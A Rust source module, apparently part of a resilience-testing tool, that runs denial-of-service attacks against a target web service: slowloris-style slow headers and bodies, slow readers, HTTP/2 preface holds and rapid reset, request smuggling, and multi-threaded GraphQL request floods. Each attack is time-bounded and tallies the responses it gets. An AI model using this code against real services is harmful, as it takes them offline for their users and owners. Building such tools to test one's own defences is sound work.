//! Execution of the attacks.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use super::attacks::{Attack, Victim};
use super::dialect::Dialect;
use super::exchange::{ATTACKER, Connection, HOST, post};
use super::seen::Seen;
use super::sockets::{self, Manner};
use super::{graphql, http2};
use crate::clock::now;

/// Number of connections of an attack that sends complete requests.
const CONNECTIONS: usize = 4;

/// Number of requests of an attack over all connections.
const REQUESTS: usize = 100_000;

/// Attacks until the given time, or until `stop` is set.
pub(super) fn carry_out(
    attack: Attack,
    victim: &Victim<'_>,
    until: Instant,
    stop: &AtomicBool,
) -> Seen {
    let is_over = || now() >= until || stop.load(Ordering::Relaxed);
    let (to, path) = (victim.address, victim.path);
    let hold = |manner: Manner| sockets::hold(&manner, to, &is_over);
    match attack {
        Attack::SlowHeader => hold(Manner::slow_header(path)),
        Attack::SlowBody => hold(Manner::slow_body(path)),
        Attack::Crowd => {
            let request = largest(victim);
            let readers = usize::try_from(sockets::READERS).unwrap_or(CONNECTIONS);
            send(readers, to, until, &is_over, &|_| request.clone())
        }
        Attack::SlowReader => hold(Manner::slow_reader(&largest(victim))),
        Attack::Silent => hold(Manner::silent()),
        Attack::Http2Preface => hold(Manner::http2_preface()),
        Attack::Smuggling => sockets::smuggle(path, to, &is_over),
        Attack::Http2Reset => thread::scope(|scope| {
            let work = || scope.spawn(|| http2::reset(path, victim.body, to, &is_over));
            let workers: Vec<_> = (0..CONNECTIONS).map(|_| work()).collect();
            joined(workers)
        }),
        _ => requests(attack, victim, until, &is_over),
    }
}

/// The request with the largest response.
fn largest(victim: &Victim<'_>) -> Vec<u8> {
    let body = victim.dialect.map(Dialect::large);
    post(victim.path, HOST, body.as_deref().unwrap_or(victim.body))
}

/// Sends requests as fast as the service responds.
fn requests(
    attack: Attack,
    victim: &Victim<'_>,
    until: Instant,
    is_over: &(dyn Fn() -> bool + Sync),
) -> Seen {
    let bodies = graphql::bodies(attack, victim);
    send(CONNECTIONS, victim.address, until, is_over, &|number| {
        post(victim.path, HOST, &bodies.body(number))
    })
}

/// Sends numbered requests over this number of connections. Each connection waits for a response before the
/// next request.
fn send(
    connections: usize,
    to: SocketAddr,
    until: Instant,
    is_over: &(dyn Fn() -> bool + Sync),
    request: &(dyn Fn(usize) -> Vec<u8> + Sync),
) -> Seen {
    let worker = |number: usize| {
        let mut seen = Seen::default();
        let mut kept: Option<Connection> = None;
        for round in 0..REQUESTS / connections {
            if is_over() {
                break;
            }
            let request = request(round * connections + number);
            let patience = until.min(now() + Duration::from_secs(30));
            let connection = match kept.take() {
                Some(connection) => Ok(connection),
                None => Connection::open(ATTACKER, to, patience),
            };
            let Ok(mut connection) = connection else {
                seen.count("not opened");
                continue;
            };
            match connection.exchange(&request, patience) {
                Ok(answer) => {
                    let errors = if answer.has_errors {
                        " with errors"
                    } else {
                        ""
                    };
                    seen.count(&format!("{}{errors}", answer.status));
                    kept = answer.is_kept.then_some(connection);
                }
                // The end of the attack closes the connection, as a leaving client does.
                Err(error) if error.kind() == std::io::ErrorKind::TimedOut => {
                    seen.count("unanswered");
                }
                Err(_) => seen.count("closed by service"),
            }
        }
        seen
    };
    thread::scope(|scope| {
        let worker = &worker;
        let workers = (0..connections).map(|number| scope.spawn(move || worker(number)));
        joined(workers.collect())
    })
}

fn joined(workers: Vec<thread::ScopedJoinHandle<'_, Seen>>) -> Seen {
    let seen = workers
        .into_iter()
        .map(|worker| worker.join().unwrap_or_default());
    seen.fold(Seen::default(), |all, one| all.join(&one))
}
